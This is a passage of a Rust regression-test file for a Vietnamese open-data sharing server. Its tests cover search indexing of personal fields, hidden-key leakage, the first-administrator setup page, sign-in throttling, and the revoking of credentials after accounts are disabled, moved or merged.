//! Regression tests for the defects fixed with the move to one policy
//! decision point and one use-case layer. Each test says what used to
//! happen; each would have failed before its fix. Storage is exercised on
//! every engine (`engines()`): SQLite always, PostgreSQL when
//! CHIASE_TEST_DATABASE_URL is set.

mod common;

use std::io::Read;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use axum::http::{Method, StatusCode};
use chiase_core::policy::Role;
use chiase_server::auth::Caller;
use chiase_server::usecase::datasets::CreateDataset;
use chiase_server::usecase::imports::{self, ImportOutcome, ImportRequest, Progress};
use chiase_store::databases::DatabaseKey;
use chiase_store::datasets::import::{ImportMode, WriteSummary};
use chiase_store::testing::operator_data;
use common::{Engine, Resp, TestApp, enc, engines};
use serde_json::{Value, json};

const PASSWORD: &str = "mat-khau-du-dai-123";
/// Owns entries 20–27 of the built-in catalog (entry 26 may be open,
/// default or specific).
const TTTT: &str = "so-thong-tin-va-truyen-thong";
/// Owns entries 1–6 (entry 4: specific).
const NOI_VU: &str = "so-noi-vu";

// ---------------------------------------------------------------------------
// Helpers

async fn as_(app: &TestApp, token: Option<&str>, method: Method, path: &str, body: Value) -> Resp {
    let bytes = if body.is_null() { vec![] } else { body.to_string().into_bytes() };
    let auth = token.map(|t| format!("Bearer {t}"));
    let mut headers = vec![("content-type", "application/json")];
    if let Some(a) = &auth {
        headers.push(("authorization", a.as_str()));
    }
    app.request(method, path, &headers, bytes).await
}

async fn get_as(app: &TestApp, token: Option<&str>, path: &str) -> Resp {
    as_(app, token, Method::GET, path, Value::Null).await
}

async fn create(app: &TestApp, id: &str, entry: i64, mode: &str, schema: Value) -> chiase_store::datasets::Dataset {
    app.create_dataset(CreateDataset {
        id: id.into(),
        database: DatabaseKey::No(entry),
        title: format!("Tập dữ liệu {id}"),
        title_en: None,
        description: String::new(),
        licence: None,
        sharing_mode: mode.parse().unwrap(),
        cadence: Some(chiase_core::catalog::Cadence::OnChange),
        schema: serde_json::from_value(schema).unwrap(),
        template: None,
        synthetic: false,
    })
    .await
}

async fn import_csv(app: &TestApp, id: &str, mode: ImportMode, csv: &str) -> WriteSummary {
    match app.import(id, "tep.csv", csv.as_bytes().to_vec(), mode).await {
        Ok(ImportOutcome::Done(s)) => s.summary,
        Ok(ImportOutcome::Rejected(r)) => panic!("import into {id} rejected: {:?}", r.errors),
        Err(e) => panic!("import into {id} failed: {}", e.msg),
    }
}

/// The `total` of a page of records, which must answer 200.
async fn total(app: &TestApp, token: Option<&str>, path: &str) -> i64 {
    let r = get_as(app, token, path).await;
    assert_eq!(r.status, StatusCode::OK, "GET {path}: {}", r.text());
    r.json()["total"].as_i64().unwrap()
}

/// A moment strictly between two changes (change batches are stamped to
/// the microsecond).
async fn instant_between() -> String {
    tokio::time::sleep(Duration::from_millis(30)).await;
    let t = chrono::Utc::now();
    tokio::time::sleep(Duration::from_millis(30)).await;
    enc(&t.to_rfc3339())
}

fn role(app_user: &chiase_store::users::User) -> Caller {
    Caller::of_user(app_user.clone(), Some("127.0.0.1".into()))
}

/// Audit events of one action, as the operator reads them.
async fn events(app: &TestApp, action: &str) -> Vec<chiase_store::audit::Event> {
    app.store()
        .audit_events(
            &operator_data::audit(),
            &chiase_store::audit::AuditFilter { action: Some(action.into()), limit: 10_000, ..Default::default() },
        )
        .await
        .unwrap()
}

/// Runs a statement on the database directly, as someone with access to
/// it would (tests of defence in depth only).
async fn exec_sql(app: &TestApp, sql: &str) {
    if app.db.url.starts_with("postgres") {
        let pool = sqlx::PgPool::connect(&app.db.url).await.unwrap();
        sqlx::query(sqlx::AssertSqlSafe(sql.to_string())).execute(&pool).await.unwrap();
    } else {
        let pool = sqlx::SqlitePool::connect(&app.db.url).await.unwrap();
        sqlx::query(sqlx::AssertSqlSafe(sql.to_string())).execute(&pool).await.unwrap();
    }
}

/// One count read from the database directly.
async fn count_sql(app: &TestApp, sql: &str) -> i64 {
    if app.db.url.starts_with("postgres") {
        let pool = sqlx::PgPool::connect(&app.db.url).await.unwrap();
        sqlx::query_scalar::<_, i64>(sqlx::AssertSqlSafe(sql.to_string())).fetch_one(&pool).await.unwrap()
    } else {
        let pool = sqlx::SqlitePool::connect(&app.db.url).await.unwrap();
        sqlx::query_scalar::<_, i64>(sqlx::AssertSqlSafe(sql.to_string())).fetch_one(&pool).await.unwrap()
    }
}

/// Signs in through the JSON API; returns the session cookie (`name=value`)
/// and its CSRF token.
async fn session(app: &TestApp, username: &str) -> (String, String) {
    let r = app
        .request(
            Method::POST,
            "/api/v1/session",
            &[("content-type", "application/json")],
            json!({"username": username, "password": PASSWORD}).to_string().into_bytes(),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "sign-in of {username}: {}", r.text());
    let cookie = r.headers["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_string();
    (cookie, r.json()["csrf_token"].as_str().unwrap().to_string())
}

async fn me_with_cookie(app: &TestApp, cookie: &str) -> StatusCode {
    app.request(Method::GET, "/api/v1/me", &[("cookie", cookie)], vec![]).await.status
}

// ---------------------------------------------------------------------------
// 1. A field made personal leaves the full-text index, now and in the past.

fn searchable_schema() -> Value {
    json!({
        "fields": [
            {"name": "ma", "type": "string"},
            {"name": "ten", "type": "string", "searchable": true},
            {"name": "ghi_chu", "type": "string", "searchable": true},
            {"name": "mo_ta", "type": "string"}
        ],
        "primaryKey": "ma"
    })
}

/// Before the fix a schema change only altered the table: the full-text
/// rows made from a field stayed as they were when it became personal, so
/// `q=hung` kept finding Nguyễn Văn Hùng for anyone (and a field made
/// searchable found nothing until rows were written again).
#[tokio::test]
async fn a_field_made_personal_is_found_by_nobody_now_or_as_of_any_time_and_a_field_made_searchable_is_found_in_every_version() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let steward = app.person("tttt.steward", Some(TTTT), Role::Steward, PASSWORD).await;
        let member = app.person("tttt.member", Some(TTTT), Role::Member, PASSWORD).await;
        create(&app, "ho-so", 26, "open", searchable_schema()).await;
        import_csv(
            &app,
            "ho-so",
            ImportMode::Append,
            "ma,ten,ghi_chu,mo_ta\nA1,Nguyễn Văn Hùng,Trạm Kim Bình,Cột anten dây co\nA2,Trần Thị Lan,Trạm Tân Trào,Nhà trạm\n",
        )
        .await;
        let first = instant_between().await;
        // A1 changes: its first version is now a past one.
        import_csv(&app, "ho-so", ImportMode::Upsert, "ma,ten,ghi_chu,mo_ta\nA1,Nguyễn Văn Hùng,Trạm Kim Bình mới,Cột thép tự đứng\n")
            .await;
        let before_change = instant_between().await;
        let q = |query: &str, as_of: Option<&str>| {
            format!("/api/v1/datasets/ho-so/records?q={}{}", enc(query), as_of.map(|t| format!("&as_of={t}")).unwrap_or_default())
        };
        assert_eq!(total(&app, None, &q("hung", None)).await, 1, "{engine:?}: found while the field is not personal");
        assert_eq!(total(&app, None, &q("hung", Some(&first))).await, 1, "{engine:?}: and in the past");

        // A steward of the owner makes `ten` personal, over HTTP.
        let mut spec = searchable_schema();
        spec["fields"][1]["personal"] = json!("basic");
        let r = as_(&app, Some(&steward), Method::PATCH, "/api/v1/datasets/ho-so/schema", spec.clone()).await;
        assert_eq!(r.status, StatusCode::OK, "{engine:?}: {}", r.text());
        assert_eq!(r.json()["schema_version"], 2);

        for as_of in [None, Some(first.as_str()), Some(before_change.as_str())] {
            for (who, token) in [("anonymous", None), ("owner", Some(member.as_str()))] {
                assert_eq!(
                    total(&app, token, &q("hung", as_of)).await,
                    0,
                    "{engine:?} {who} as of {as_of:?}: a personal field is never found"
                );
                assert_eq!(total(&app, token, &q("nguyen van", as_of)).await, 0, "{engine:?} {who} as of {as_of:?}");
            }
        }
        // The other searchable field still is, in every version.
        assert_eq!(total(&app, None, &q("kim binh moi", None)).await, 1, "{engine:?}");
        assert_eq!(total(&app, None, &q("tan trao", Some(&first))).await, 1, "{engine:?}");
        // The owner still reads the field; the public does not see it.
        let own = get_as(&app, Some(&member), "/api/v1/datasets/ho-so/records/A1").await;
        assert_eq!(own.status, StatusCode::OK, "{engine:?}: {}", own.text());
        assert_eq!(own.json()["ten"], "Nguyễn Văn Hùng");
        let own_then = get_as(&app, Some(&member), &format!("/api/v1/datasets/ho-so/records/A1?as_of={first}")).await.json();
        assert_eq!(own_then["ten"], "Nguyễn Văn Hùng", "{engine:?}");
        assert_eq!(own_then["mo_ta"], "Cột anten dây co");
        let public = app.get_ok("/api/v1/datasets/ho-so/records").await;
        assert_eq!(public["fields"], json!(["ma", "ghi_chu", "mo_ta"]), "{engine:?}");

        // The operator makes `mo_ta` searchable (the same use case as the
        // API): current and past versions become findable by it.
        spec["fields"][3]["searchable"] = json!(true);
        let changed =
            chiase_server::usecase::datasets::change_schema(&app.state, &app.operator(), "ho-so", serde_json::from_value(spec).unwrap())
                .await
                .unwrap_or_else(|e| panic!("{engine:?}: {}", e.msg));
        assert_eq!(changed.schema_version, 3);
        assert_eq!(total(&app, None, &q("thep", None)).await, 1, "{engine:?}: the current version is indexed");
        assert_eq!(total(&app, None, &q("anten", None)).await, 0, "{engine:?}: the old text is not current");
        assert_eq!(total(&app, None, &q("anten", Some(&first))).await, 1, "{engine:?}: the past version is indexed");
        assert_eq!(total(&app, None, &q("thep", Some(&first))).await, 0, "{engine:?}");
        assert_eq!(total(&app, None, &q("nha tram", None)).await, 1, "{engine:?}: an unchanged row too");
        // Making `mo_ta` searchable did not bring `ten` back.
        assert_eq!(total(&app, None, &q("hung", None)).await, 0, "{engine:?}");
    }
}

// ---------------------------------------------------------------------------
// 2. The keys of fields a reader may not see do not leak.

fn citizen_schema() -> Value {
    json!({
        "fields": [
            {"name": "so_cccd", "type": "string", "personal": "basic", "constraints": {"pattern": "[0-9]{12}"}},
            {"name": "xa", "type": "string"}
        ],
        "primaryKey": "so_cccd"
    })
}

const CITIZENS: &str = "so_cccd,xa\n001234567890,Xã Kim Bình\n008765432109,Xã Tân Trào\n";

/// Before the fix the change feed gave every reader each row's primary key
/// (`"key": "001234567890"`, an ID number the reader may not see), and
/// `records/{key}` answered 200 or 404, so anyone could test whether a
/// citizen's ID number was in the dataset.
#[tokio::test]
async fn a_reader_who_may_not_see_a_personal_key_gets_no_key_in_the_feed_and_no_lookup_by_key() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let owner = app.person("tttt.member", Some(TTTT), Role::Member, PASSWORD).await;
        let other = app.person("noivu.member", Some(NOI_VU), Role::Member, PASSWORD).await;
        for (id, mode) in [("cong-dan-mo", "open"), ("cong-dan-md", "default")] {
            create(&app, id, 26, mode, citizen_schema()).await;
            import_csv(&app, id, ImportMode::Append, CITIZENS).await;
        }
        // Open data read by the public; default sharing read by another agency.
        for (id, reader) in [("cong-dan-mo", None), ("cong-dan-md", Some(other.as_str()))] {
            let feed = get_as(&app, reader, &format!("/api/v1/datasets/{id}/changes")).await;
            assert_eq!(feed.status, StatusCode::OK, "{engine:?} {id}: {}", feed.text());
            let feed = feed.json();
            let changes = feed["changes"].as_array().unwrap();
            assert_eq!(changes.len(), 2, "{engine:?} {id}");
            for c in changes {
                assert!(c["key"].is_null(), "{engine:?} {id}: {c}");
                assert!(c["values"].get("so_cccd").is_none(), "{engine:?} {id}: {c}");
                assert!(c["values"]["xa"].is_string());
            }
            assert!(!feed.to_string().contains("001234567890"), "{engine:?} {id}");
            // A lookup by key is refused the same way whether the key exists or not.
            let mut bodies = Vec::new();
            for key in ["001234567890", "999999999999", "khong-phai-so", "001234567890?as_of=2099-01-01"] {
                let r = get_as(&app, reader, &format!("/api/v1/datasets/{id}/records/{key}")).await;
                assert_eq!(r.status, StatusCode::FORBIDDEN, "{engine:?} {id} {key}: {}", r.text());
                let e = r.json();
                assert!(e["error"]["message_en"].as_str().unwrap().contains("records/_id/"), "{engine:?} {id}: {e}");
                assert!(e["error"]["message"].as_str().unwrap().contains("records/_id/"), "{engine:?} {id}: {e}");
                bodies.push(e);
            }
            assert!(bodies.iter().all(|b| *b == bodies[0]), "{engine:?} {id}: every key gets the same answer: {bodies:?}");
            // The record id works and shows no key field.
            let n = changes[0]["id"].as_i64().unwrap();
            let one = get_as(&app, reader, &format!("/api/v1/datasets/{id}/records/_id/{n}")).await;
            assert_eq!(one.status, StatusCode::OK, "{engine:?} {id}: {}", one.text());
            let one = one.json();
            assert_eq!(one.as_object().unwrap().keys().collect::<Vec<_>>(), vec!["_id", "xa"], "{engine:?} {id}: {one}");
            assert_eq!(one["xa"], "Xã Kim Bình");

            // The owner agency sees keys in the feed and looks rows up by key.
            let feed = get_as(&app, Some(&owner), &format!("/api/v1/datasets/{id}/changes")).await.json();
            let keys: Vec<&str> = feed["changes"].as_array().unwrap().iter().map(|c| c["key"].as_str().unwrap()).collect();
            assert_eq!(keys, vec!["001234567890", "008765432109"], "{engine:?} {id}");
            let own = get_as(&app, Some(&owner), &format!("/api/v1/datasets/{id}/records/001234567890")).await;
            assert_eq!(own.status, StatusCode::OK, "{engine:?} {id}: {}", own.text());
            assert_eq!(own.json()["so_cccd"], "001234567890");
            assert_eq!(
                get_as(&app, Some(&owner), &format!("/api/v1/datasets/{id}/records/999999999999")).await.status,
                StatusCode::NOT_FOUND
            );
        }
        // Default sharing is for state agencies: the public is asked to sign in.
        assert_eq!(app.get("/api/v1/datasets/cong-dan-md/records/001234567890").await.status, StatusCode::UNAUTHORIZED);
    }
}

/// Found while writing these tests: for a key that is an integer, or made
/// of several fields, the key in the URL was parsed before the refusal, so
/// a reader who may not use keys at all got 400 "«abc» is not an integer" or
/// "the key has 2 comma-separated values" instead of the 403 that points
/// to `records/_id/{n}`.
#[tokio::test]
async fn a_lookup_by_a_hidden_key_is_refused_before_the_key_is_read_whatever_its_type() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let owner = app.person("tttt.member", Some(TTTT), Role::Member, PASSWORD).await;
        let integer = json!({"fields": [
            {"name": "so_bhxh", "type": "integer", "personal": "basic"}, {"name": "xa", "type": "string"}
        ], "primaryKey": "so_bhxh"});
        let composite = json!({"fields": [
            {"name": "tinh", "type": "string"}, {"name": "so_cccd", "type": "string", "personal": "basic"}, {"name": "xa", "type": "string"}
        ], "primaryKey": ["tinh", "so_cccd"]});
        create(&app, "so-nguyen", 26, "open", integer).await;
        import_csv(&app, "so-nguyen", ImportMode::Append, "so_bhxh,xa\n123456,Xã Kim Bình\n").await;
        create(&app, "hai-khoa", 26, "open", composite).await;
        import_csv(&app, "hai-khoa", ImportMode::Append, "tinh,so_cccd,xa\nTQ,001234567890,Xã Kim Bình\n").await;
        for (id, keys, own_key) in [
            ("so-nguyen", ["123456", "999", "abc", "1,2"], "123456"),
            ("hai-khoa", ["TQ,001234567890", "TQ,0", "TQ", "a,b,c"], "TQ,001234567890"),
        ] {
            for key in keys {
                let r = app.get(&format!("/api/v1/datasets/{id}/records/{key}")).await;
                assert_eq!(r.status, StatusCode::FORBIDDEN, "{engine:?} {id} {key}: {}", r.text());
                assert!(r.json()["error"]["message_en"].as_str().unwrap().contains("records/_id/"), "{engine:?} {id} {key}");
            }
            // The owner, who sees the key, is told about a malformed one.
            assert_eq!(get_as(&app, Some(&owner), &format!("/api/v1/datasets/{id}/records/{own_key}")).await.status, StatusCode::OK);
            assert_eq!(get_as(&app, Some(&owner), &format!("/api/v1/datasets/{id}/records/a,b,c")).await.status, StatusCode::BAD_REQUEST);
        }
    }
}

// ---------------------------------------------------------------------------
// 3. The first administrator through the setup page.

/// The value of a cookie set by a response, as `name=value`.
fn set_cookie(r: &Resp, name: &str) -> String {
    r.headers
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .map(|v| v.split(';').next().unwrap().to_string())
        .find(|kv| kv.starts_with(&format!("{name}=")))
        .unwrap_or_else(|| panic!("no {name} cookie in {:?}", r.headers))
}

/// The hidden `csrf` field of a page's form.
fn form_csrf(html: &str) -> String {
    let start = html.find("name=\"csrf\" value=\"").expect("a csrf field") + "name=\"csrf\" value=\"".len();
    html[start..].split('"').next().unwrap().to_string()
}

fn form(pairs: &[(&str, &str)]) -> Vec<u8> {
    let mut s = form_urlencoded::Serializer::new(String::new());
    for (k, v) in pairs {
        s.append_pair(k, v);
    }
    s.finish().into_bytes()
}

async fn post_form(app: &TestApp, path: &str, cookie: &str, body: Vec<u8>) -> Resp {
    app.request(Method::POST, path, &[("content-type", "application/x-www-form-urlencoded"), ("cookie", cookie)], body).await
}

/// Before the fix there was no setup page (GET /setup was a 404): the
/// printed token could only be used by hand through the JSON API.
#[tokio::test]
async fn the_setup_page_creates_the_first_administrator_once_and_then_says_setup_is_closed() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let token = "setup_trang-thiet-lap-0123456789";
        assert!(app.store().add_setup_token(token).await.unwrap());
        let page = app.get("/setup").await;
        assert_eq!(page.status, StatusCode::OK, "{engine:?}");
        let (cookie, csrf) = (set_cookie(&page, "chiase_form_csrf"), form_csrf(&page.text()));
        let fields = |csrf: &str, password2: &str| {
            form(&[("csrf", csrf), ("token", token), ("username", "quan.tri"), ("password", PASSWORD), ("password2", password2)])
        };
        // A form whose token does not match its cookie (a cross-site post) is refused.
        let forged = post_form(&app, "/setup", &cookie, fields("gia-mao", PASSWORD)).await;
        assert_eq!(forged.status, StatusCode::FORBIDDEN, "{engine:?}");
        // Two different passwords are refused before the token is spent.
        let differ = post_form(&app, "/setup", &cookie, fields(&csrf, "mat-khau-khac-hoan-toan")).await;
        assert_eq!(differ.status, StatusCode::UNPROCESSABLE_ENTITY, "{engine:?}");
        assert!(!app.store().has_admin().await.unwrap());

        let done = post_form(&app, "/setup", &cookie, fields(&csrf, PASSWORD)).await;
        assert!(done.status.is_redirection(), "{engine:?}: {} {}", done.status, done.text());
        assert_eq!(done.headers["location"], "/login");
        let admin = app.store().user("quan.tri").await.unwrap().expect("the administrator exists");
        assert_eq!(admin.role, Role::Admin);
        session(&app, "quan.tri").await;
        assert_eq!(events(&app, "admin_created").await.len(), 1, "{engine:?}");

        // Setup is closed now: the page says so, the form and the API refuse.
        let closed = app.get("/setup").await;
        assert_eq!(closed.status, StatusCode::OK);
        assert!(closed.text().contains("Đã có quản trị viên") && !closed.text().contains("name=\"token\""), "{engine:?}");
        let again = post_form(
            &app,
            "/setup",
            &cookie,
            form(&[("csrf", &csrf), ("token", token), ("username", "quan.tri2"), ("password", PASSWORD), ("password2", PASSWORD)]),
        )
        .await;
        assert_eq!(again.status, StatusCode::CONFLICT, "{engine:?}");
        let api =
            as_(&app, None, Method::POST, "/api/v1/setup", json!({"token": token, "username": "quan.tri3", "password": PASSWORD})).await;
        assert_eq!(api.status, StatusCode::CONFLICT, "{engine:?}: {}", api.text());
        assert_eq!(api.json()["error"]["code"], "conflict");
        assert!(app.store().user("quan.tri2").await.unwrap().is_none() && app.store().user("quan.tri3").await.unwrap().is_none());
    }
}

// ---------------------------------------------------------------------------
// 4. Sign-in throttling cannot be raced, and cannot lock anyone out.

async fn sign_in_from(app: &TestApp, source: &str, username: &str, password: &str) -> Resp {
    app.request(
        Method::POST,
        "/api/v1/session",
        &[("content-type", "application/json"), ("x-forwarded-for", source)],
        json!({"username": username, "password": password}).to_string().into_bytes(),
    )
    .await
}

/// Before the fix the failures were counted before the password was
/// checked and the attempt written after it, outside one transaction: 40
/// wrong passwords sent at once all saw 0 failures and all got a password
/// check. Failures also counted per account from anywhere, so 5 wrong
/// passwords from one address locked the account for everyone.
#[tokio::test]
async fn forty_parallel_wrong_passwords_get_five_checks_and_lock_out_only_their_source() {
    for engine in engines() {
        let app = TestApp::spawn_with(engine, |c| c.trust_proxy = true).await;
        app.person("cong.dan", None, Role::Member, PASSWORD).await;
        let attacker = "198.51.100.7";
        let replies =
            futures_util::future::join_all((0..40).map(|_| sign_in_from(&app, attacker, "cong.dan", "sai-mat-khau-roi-day"))).await;
        let refused = replies.iter().filter(|r| r.status == StatusCode::UNAUTHORIZED).count();
        let throttled: Vec<&Resp> = replies.iter().filter(|r| r.status == StatusCode::TOO_MANY_REQUESTS).collect();
        assert_eq!((refused, throttled.len()), (5, 35), "{engine:?}: {:?}", replies.iter().map(|r| r.status).collect::<Vec<_>>());
        for r in &throttled {
            let wait: u64 = r.headers["retry-after"].to_str().unwrap().parse().unwrap();
            assert!(wait > 0, "{engine:?}");
            assert_eq!(r.json()["error"]["code"], "throttled");
        }
        // Exactly five password checks: five failures recorded, five attempts kept.
        assert_eq!(events(&app, "sign_in_failed").await.len(), 5, "{engine:?}");
        assert_eq!(events(&app, "sign_in_throttled").await.len(), 35, "{engine:?}");
        assert_eq!(count_sql(&app, "SELECT count(*) FROM login_attempts WHERE username = 'cong.dan'").await, 5, "{engine:?}");
        // The attacker's address stays throttled even with the right password…
        assert_eq!(sign_in_from(&app, attacker, "cong.dan", PASSWORD).await.status, StatusCode::TOO_MANY_REQUESTS, "{engine:?}");
        // …but the account's owner, elsewhere, signs in.
        let owner = sign_in_from(&app, "203.0.113.20", "cong.dan", PASSWORD).await;
        assert_eq!(owner.status, StatusCode::OK, "{engine:?}: {}", owner.text());
        assert_eq!(events(&app, "sign_in").await.last().unwrap().source.as_deref(), Some("203.0.113.20"));

        // One address failing over many accounts meets the per-source bound (20).
        let sprayer = "198.51.100.8";
        for i in 0..25 {
            let r = sign_in_from(&app, sprayer, &format!("tai.khoan.{i:02}"), "sai-mat-khau-roi-day").await;
            let expected = if i < 20 { StatusCode::UNAUTHORIZED } else { StatusCode::TOO_MANY_REQUESTS };
            assert_eq!(r.status, expected, "{engine:?}: attempt {i} from one source");
        }
        assert_eq!(sign_in_from(&app, sprayer, "cong.dan", PASSWORD).await.status, StatusCode::TOO_MANY_REQUESTS, "{engine:?}");
        assert_eq!(sign_in_from(&app, "203.0.113.21", "cong.dan", PASSWORD).await.status, StatusCode::OK, "{engine:?}");
    }
}

// ---------------------------------------------------------------------------
// 5. Accounts disabled, moved or merged away lose their sessions and tokens.

/// Before the fix accounts could not be disabled, enabled or moved at all
/// (no endpoints, no store functions): an officer who left an agency kept
/// its tokens and sessions, and read as its officer, until someone edited
/// the database.
#[tokio::test]
async fn disabling_or_moving_an_account_ends_its_tokens_and_sessions_and_only_administrators_may() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let admin = app.person("quan.tri", None, Role::Admin, PASSWORD).await;
        let steward = app.person("tttt.steward", Some(TTTT), Role::Steward, PASSWORD).await;
        let member = app.person("tttt.member", Some(TTTT), Role::Member, PASSWORD).await;
        let (cookie, _) = session(&app, "tttt.member").await;
        assert_eq!(get_as(&app, Some(&member), "/api/v1/me").await.status, StatusCode::OK);
        assert_eq!(me_with_cookie(&app, &cookie).await, StatusCode::OK);

        // Only administrators administer accounts: over HTTP and in the use case.
        for action in ["disable", "enable", "move"] {
            let path = format!("/api/v1/users/tttt.member/{action}");
            let body = if action == "move" { json!({"agency": NOI_VU, "role": "member"}) } else { Value::Null };
            for token in [&steward, &member] {
                let r = as_(&app, Some(token), Method::POST, &path, body.clone()).await;
                assert_eq!(r.status, StatusCode::FORBIDDEN, "{engine:?} {action}: {}", r.text());
            }
            assert_eq!(as_(&app, None, Method::POST, &path, body).await.status, StatusCode::UNAUTHORIZED, "{engine:?} {action}");
        }
        let steward_caller = role(&app.store().user("tttt.steward").await.unwrap().unwrap());
        let e = chiase_server::usecase::accounts::set_enabled(&app.state, &steward_caller, "tttt.member", false).await.unwrap_err();
        assert_eq!(e.status, StatusCode::FORBIDDEN, "{engine:?}");
        assert_eq!(get_as(&app, Some(&member), "/api/v1/me").await.status, StatusCode::OK, "{engine:?}: nothing changed");

        // Disabled: the token and the session stop at once.
        let r = as_(&app, Some(&admin), Method::POST, "/api/v1/users/tttt.member/disable", Value::Null).await;
        assert_eq!(r.status, StatusCode::OK, "{engine:?}: {}", r.text());
        assert_eq!(r.json()["status"], "disabled");
        assert_eq!(get_as(&app, Some(&member), "/api/v1/me").await.status, StatusCode::UNAUTHORIZED, "{engine:?}: token");
        assert_eq!(me_with_cookie(&app, &cookie).await, StatusCode::UNAUTHORIZED, "{engine:?}: session");
        // Enabled again, the old credentials stay dead; new ones work.
        let r = as_(&app, Some(&admin), Method::POST, "/api/v1/users/tttt.member/enable", Value::Null).await;
        assert_eq!((r.status, r.json()["status"].clone()), (StatusCode::OK, json!("active")), "{engine:?}");
        assert_eq!(get_as(&app, Some(&member), "/api/v1/me").await.status, StatusCode::UNAUTHORIZED, "{engine:?}: revoked, not paused");
        assert_eq!(me_with_cookie(&app, &cookie).await, StatusCode::UNAUTHORIZED, "{engine:?}");
        let (_, fresh) =
            chiase_server::usecase::accounts::create_token(&app.state, &app.operator(), "tttt.member", "moi", Some(30)).await.unwrap();
        let (cookie, _) = session(&app, "tttt.member").await;
        assert_eq!(get_as(&app, Some(&fresh), "/api/v1/me").await.status, StatusCode::OK);

        // Moved to another agency with a role: what it may read changed, so
        // its credentials end.
        let r = as_(&app, Some(&admin), Method::POST, "/api/v1/users/tttt.member/move", json!({"agency": NOI_VU, "role": "member"})).await;
        assert_eq!(r.status, StatusCode::OK, "{engine:?}: {}", r.text());
        assert_eq!(r.json()["agency"]["id"], NOI_VU);
        assert_eq!(get_as(&app, Some(&fresh), "/api/v1/me").await.status, StatusCode::UNAUTHORIZED, "{engine:?}: token after a move");
        assert_eq!(me_with_cookie(&app, &cookie).await, StatusCode::UNAUTHORIZED, "{engine:?}: session after a move");
        // A steward role needs an agency: moving to none as steward is refused.
        let r = as_(&app, Some(&admin), Method::POST, "/api/v1/users/tttt.member/move", json!({"agency": null, "role": "steward"})).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{engine:?}: {}", r.text());
        let audit: Vec<String> =
            events(&app, "user_disabled").await.into_iter().chain(events(&app, "user_moved").await).map(|e| e.actor).collect();
        assert_eq!(audit, vec!["user:quan.tri", "user:quan.tri"], "{engine:?}");
    }
}

/// Before the fix a merger moved the agency's databases and left its
/// accounts where they were, active, with their tokens: officers of an
/// agency that no longer existed kept reading as a state agency.
#[tokio::test]
async fn a_merger_moves_the_agencys_accounts_to_the_successor_by_default_and_ends_their_tokens() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let admin = app.person("quan.tri", None, Role::Admin, PASSWORD).await;
        let member = app.person("tttt.member", Some(TTTT), Role::Member, PASSWORD).await;
        let (cookie, _) = session(&app, "tttt.member").await;
        let s = chiase_server::usecase::agencies::merge(
            &app.state,
            &app.operator(),
            TTTT,
            "so-khoa-hoc-va-cong-nghe",
            "2025-07-01".parse().unwrap(),
        )
        .await
        .unwrap();
        assert_eq!((s.users_moved, s.users_suspended), (1, 0), "{engine:?}");
        assert_eq!(get_as(&app, Some(&member), "/api/v1/me").await.status, StatusCode::UNAUTHORIZED, "{engine:?}: token");
        assert_eq!(me_with_cookie(&app, &cookie).await, StatusCode::UNAUTHORIZED, "{engine:?}: session");
        let users = get_as(&app, Some(&admin), "/api/v1/users").await.json();
        let moved = users["results"].as_array().unwrap().iter().find(|u| u["username"] == "tttt.member").unwrap().clone();
        assert_eq!(moved["agency"]["id"], "so-khoa-hoc-va-cong-nghe", "{engine:?}: {moved}");
        assert_eq!(moved["status"], "active");
        assert_eq!(moved["agency_active"], true);
        let (cookie, _) = session(&app, "tttt.member").await;
        assert_eq!(me_with_cookie(&app, &cookie).await, StatusCode::OK, "{engine:?}: signs in again, as the successor's");
    }
}

/// Before the fix accounts of a merged agency stayed active with their
/// tokens (see above), and the policy took any user with an agency for an
/// officer of a state agency, whether that agency still existed or not.
#[tokio::test]
async fn with_merged_users_suspend_a_merger_disables_the_accounts_and_an_ended_agencys_user_is_no_state_agency() {
    for engine in engines() {
        let app = TestApp::spawn_with(engine, |c| c.merged_users = chiase_core::accounts::MergedUsers::Suspend).await;
        let admin = app.person("quan.tri", None, Role::Admin, PASSWORD).await;
        let member = app.person("tttt.member", Some(TTTT), Role::Member, PASSWORD).await;
        // Default sharing of the provincial office (entry 18): for officers of state agencies.
        let ds = create(&app, "van-ban", 18, "default", json!({"fields": [{"name": "so", "type": "string"}], "primaryKey": "so"})).await;
        import_csv(&app, "van-ban", ImportMode::Append, "so\n12/QĐ-UBND\n").await;
        assert_eq!(get_as(&app, Some(&member), "/api/v1/datasets/van-ban/records").await.status, StatusCode::OK, "{engine:?}");

        let s = chiase_server::usecase::agencies::merge(
            &app.state,
            &app.operator(),
            TTTT,
            "so-khoa-hoc-va-cong-nghe",
            "2025-07-01".parse().unwrap(),
        )
        .await
        .unwrap();
        assert_eq!((s.users_moved, s.users_suspended), (0, 1), "{engine:?}");
        assert_eq!(get_as(&app, Some(&member), "/api/v1/me").await.status, StatusCode::UNAUTHORIZED, "{engine:?}");
        let user = app.store().user("tttt.member").await.unwrap().unwrap();
        assert_eq!((user.status.as_str(), user.agency_active), ("disabled", false), "{engine:?}");
        // It cannot be enabled while its agency is gone: move it first.
        let r = as_(&app, Some(&admin), Method::POST, "/api/v1/users/tttt.member/enable", Value::Null).await;
        assert_eq!(r.status, StatusCode::CONFLICT, "{engine:?}: {}", r.text());
        let e = chiase_server::usecase::accounts::set_enabled(&app.state, &app.operator(), "tttt.member", true).await.unwrap_err();
        assert_eq!(e.status, StatusCode::CONFLICT, "{engine:?}");

        // The policy: a user of an ended agency acts as a member of the public.
        match chiase_core::policy::decide_read(&user.subject(), &ds.facts(), chrono::Utc::now(), &[]) {
            Err(reason) => assert_eq!(reason, chiase_core::policy::Reason::NotStateAgency, "{engine:?}"),
            Ok(_) => panic!("{engine:?}: a user of a merged agency read default-shared data"),
        }
        // Even an account left active by other means (here, the database
        // edited by hand) reads nothing that is for state agencies.
        exec_sql(&app, "UPDATE users SET status = 'active' WHERE username = 'tttt.member'").await;
        let (_, token) =
            chiase_server::usecase::accounts::create_token(&app.state, &app.operator(), "tttt.member", "x", Some(1)).await.unwrap();
